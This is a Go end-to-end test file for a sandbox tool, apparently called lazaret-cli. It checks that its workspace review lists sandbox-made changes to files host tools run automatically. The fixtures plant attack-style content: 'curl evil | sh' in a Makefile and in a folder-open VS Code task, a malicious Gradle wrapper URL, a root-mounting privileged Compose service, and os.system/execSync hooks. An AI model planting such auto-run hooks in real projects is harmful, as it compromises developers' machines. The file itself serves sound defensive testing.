package coordinator

import (
	"fmt"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"
)

// TestServeEndToEndReview changes files host tools run from inside the
// sandbox and checks that lazaret-cli workspace review lists each change,
// still after a restart, and that --accept clears them.
func TestServeEndToEndReview(t *testing.T) {
	if !enterInternet(t) {
		return
	}
	e := newEnv(t)
	e.gitWorkspace(t)
	e.writeHostFiles(t, map[string]string{
		"Makefile":           "all:\n\ttrue\n",
		"package.json":       "{\"scripts\": {}}\n",
		".vscode/tasks.json": "{}\n",
		".envrc":             "export A=1\n",
		"src/main.c":         "int main(void) { return 0; }\n",
	})
	generation := e.inGeneration
	review := e.review

	generation(t, sh(`set -e
cd /workspace
printf 'all:\n\tcurl evil | sh\n' > Makefile
chmod 0755 package.json
echo '{"tasks": [{"label": "x", "command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}}]}' > .vscode/tasks.json
mkdir -p .claude && echo '{"hooks": {}}' > .claude/settings.json
rm .envrc
echo 'int x;' >> src/main.c`))
	wantLines := []string{
		`added        ".claude/settings.json" (Claude Code settings, hooks and commands)`,
		`removed      ".envrc" (direnv)`,
		`modified     ".vscode/tasks.json" (VS Code settings, tasks and launch configurations)`,
		`modified     "Makefile" (make)`,
		`mode changed "package.json" (npm, yarn, pnpm scripts), mode -rw-r--r-- -> -rwxr-xr-x`,
	}
	t.Run("review lists every change", func(t *testing.T) {
		out, rc := review(t)
		check(t, out, rc, wantLines)
	})
	t.Run("a restart does not hide them", func(t *testing.T) {
		generation(t, sh("true"))
		out, rc := review(t)
		check(t, out, rc, wantLines)
	})
	t.Run("accept clears them", func(t *testing.T) {
		if out, rc := review(t, "--accept"); rc != 0 || !strings.HasPrefix(out, "accepted the workspace as it is") {
			t.Fatalf("review --accept: exit %d, %q", rc, out)
		}
		if out, rc := review(t); rc != 0 || !strings.HasPrefix(out, "no changes to files host tools run since ") {
			t.Errorf("review after --accept: exit %d, %q", rc, out)
		}
	})
	t.Run("a later change is listed alone", func(t *testing.T) {
		generation(t, sh("echo '# more' >> /workspace/Makefile"))
		out, rc := review(t)
		check(t, out, rc, []string{`modified     "Makefile" (make)`})
	})
	checkNothingLeft(t, e)
}

// sh is the argv that runs script with the image's shell.
func sh(script string) []string { return []string{"/bin/sh", "-c", script} }

// inGeneration runs each argv in a fresh generation, which then ends.
func (e *env) inGeneration(t *testing.T, argvs ...[]string) {
	t.Helper()
	h := e.start(t, time.Second)
	c, session := e.client(t)
	for _, argv := range argvs {
		if out, errs, x := execute(t, c, session(), argv...); code(x) != 0 {
			t.Fatalf("%q: stdout %q stderr %q exit %+v", argv, out, errs, x)
		}
	}
	c.Close()
	waitExit(t, e, h)
}

// review runs lazaret-cli workspace review with args.
func (e *env) review(t *testing.T, args ...string) (string, int) {
	t.Helper()
	out, errs, rc := e.cli(t, append([]string{"workspace", "review"}, args...)...)
	t.Logf("lazaret-cli workspace review %s (exit %d):\n%s%s", strings.Join(args, " "), rc, out, errs)
	return out, rc
}

// check fails t unless a review exited 1 and listed exactly want, in order.
func check(t *testing.T, out string, rc int, want []string) {
	t.Helper()
	if rc != 1 {
		t.Errorf("review exit %d, want 1 (changes listed)", rc)
	}
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != len(want)+1 {
		t.Fatalf("review printed %q, want a header and %d changes", out, len(want))
	}
	for i, w := range want {
		if got := strings.TrimPrefix(lines[i+1], "  "); got != w {
			t.Errorf("change %d = %q, want %q", i, got, w)
		}
	}
}

// TestServeEndToEndReviewImplicitRunners plants, from inside the sandbox,
// files that host tools run or obey while the developer runs them for
// something else (cargo's rustc wrapper, pytest's conftest.py, the Gradle
// and Maven wrappers' distributions, a Compose service mounting the
// host's root, ...), each with the kind of payload the tool would run,
// and checks that the files reach the host as written and that
// lazaret-cli workspace review lists every one as added. Before these
// tools were in pkg/hosttools.Rules, the review printed none of them.
func TestServeEndToEndReviewImplicitRunners(t *testing.T) {
	if !enterInternet(t) {
		return
	}
	e := newEnv(t)
	e.gitWorkspace(t)
	payload := "touch /tmp/lazaret-review-ran"
	attacks := []struct{ path, content, tool string }{
		{".cargo/config.toml", "[build]\nrustc-wrapper = \"/bin/sh\"\n", "cargo configuration (rustc wrapper, runner, linker, aliases)"},
		{"crates/x/.cargo/config", "[target.x86_64-unknown-linux-gnu]\nrunner = \"./run.sh\"\n", "cargo configuration (rustc wrapper, runner, linker, aliases)"},
		{"rust-toolchain.toml", "[toolchain]\npath = \"tools/evil-toolchain\"\n", "rustup (a toolchain path runs its binaries)"},
		{"tests/conftest.py", "import os\nos.system(\"" + payload + "\")\n", "pytest (imported on every run)"},
		{"gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://evil.invalid/gradle.zip\n", "Gradle wrapper (downloads and runs the distribution it names)"},
		{"settings.gradle.kts", "Runtime.getRuntime().exec(\"" + payload + "\")\n", "Gradle build scripts"},
		{".mvn/extensions.xml", "<extensions><extension><groupId>evil</groupId><artifactId>x</artifactId><version>1</version></extension></extensions>\n", "Maven core extensions"},
		{".bazelrc", "build --run_under=\"/bin/sh -c '" + payload + "'\"\n", "Bazel options"},
		{"compose.yaml", "services:\n  x:\n    image: busybox\n    privileged: true\n    volumes: [\"/:/host\"]\n", "Docker Compose (host mounts, privileged services)"},
		{".pnpmfile.cjs", "require('child_process').execSync('" + payload + "')\n", "pnpm hooks (run on install)"},
		{"bunfig.toml", "preload = [\"./evil.ts\"]\n", "Bun (preloaded scripts)"},
		{"svc/.python-version", "../../../tmp/evil-python\n", "pyenv (which interpreter its shims run)"},
		{".lfsconfig", "[lfs]\nurl = https://evil.invalid/lfs\n", "git-lfs (the endpoints it fetches from and pushes to)"},
		{"shell.nix", "{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = \"" + payload + "\"; }\n", "nix-shell (shell hooks)"},
	}
	var script strings.Builder
	script.WriteString("set -e\ncd /workspace\n")
	for _, a := range attacks {
		fmt.Fprintf(&script, "mkdir -p \"$(dirname %q)\"\nprintf '%%s' %s > %q\n", a.path, shellQuote(a.content), a.path)
	}
	// A link in the place of a tool's directory: cargo follows it.
	script.WriteString("mkdir -p tools/real-cargo && printf '[build]\\nrustc-wrapper = \"/bin/sh\"\\n' > tools/real-cargo/config.toml && ln -s real-cargo tools/.cargo\n")
	e.inGeneration(t, sh(script.String()))

	want := []string{`added        "tools/.cargo" (cargo configuration (rustc wrapper, runner, linker, aliases))`}
	for _, a := range attacks {
		want = append(want, fmt.Sprintf("added        %q (%s)", a.path, a.tool))
	}
	sort.Slice(want, func(i, j int) bool { return quotedPath(want[i]) < quotedPath(want[j]) })
	out, rc := e.review(t)
	for _, a := range attacks {
		t.Run("attack/"+a.path, func(t *testing.T) {
			if got := readFile(t, filepath.Join(e.workspace, a.path)); got != a.content {
				t.Fatalf("the host holds %q, want the sandbox's %q", got, a.content)
			}
			if !strings.Contains(out, fmt.Sprintf("%q (%s)", a.path, a.tool)) {
				t.Errorf("review does not list %q", a.path)
			}
		})
	}
	t.Run("review lists exactly these", func(t *testing.T) {
		check(t, out, rc, want)
	})
	checkNothingLeft(t, e)
}

// quotedPath returns the quoted path of a review line, unquoted.
func quotedPath(line string) string {
	i := strings.IndexByte(line, '"')
	p, err := strconv.QuotedPrefix(line[i:])
	if err != nil {
		return line
	}
	u, _ := strconv.Unquote(p)
	return u
}

// shellQuote quotes s for a POSIX shell.
func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
